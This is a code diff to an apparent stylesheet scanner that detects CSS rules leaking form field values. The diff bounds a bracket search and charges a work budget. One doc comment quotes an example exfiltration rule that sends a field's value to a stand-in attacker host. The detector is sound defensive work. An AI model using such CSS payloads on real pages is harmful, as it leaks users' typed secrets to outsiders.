@@ -39,6 +39,7 @@ export const imports = (style: string): boolean => {
 /** A sheet that asks a stranger for a picture by what a field holds: `input[value^=a]{background:url(//evil.example/?a)}`. */
 export const leaksValues = (style: string): boolean => {
   const sheet = style.slice(0, LOOK_MAX).toLowerCase()
+  work.left -= CHARACTER_WORK * sheet.length
   // From brace to brace: a block may stand within another one.
   let from = 0
   for (let open = sheet.indexOf('{'); open >= 0;) {
@@ -57,7 +58,7 @@ const BRACES = charset('{}')
 
 /** `[value^=`: the selector sheet[from, to) compares what a field holds. */
 const asksValue = (sheet: string, from: number, to: number): boolean => {
-  for (let open = sheet.indexOf('[', from); open >= 0 && open < to; open = sheet.indexOf('[', open + 1)) {
+  for (let open = findIn(sheet, BRACKET, from, to); open >= 0; open = findIn(sheet, BRACKET, open + 1, to)) {
     const name = pastRun(sheet, open + 1, SPACE)
     if (!sheet.startsWith('value', name)) continue
     const sign = pastRun(sheet, name + 5, SPACE)
@@ -66,6 +67,7 @@ const asksValue = (sheet: string, from: number, to: number): boolean => {
   return false
 }
 
+const BRACKET = charset('[')
 const COMPARES = charset('^$*~|')
 
 const loadsFar = (sheet: string, from: number, to: number): boolean => {
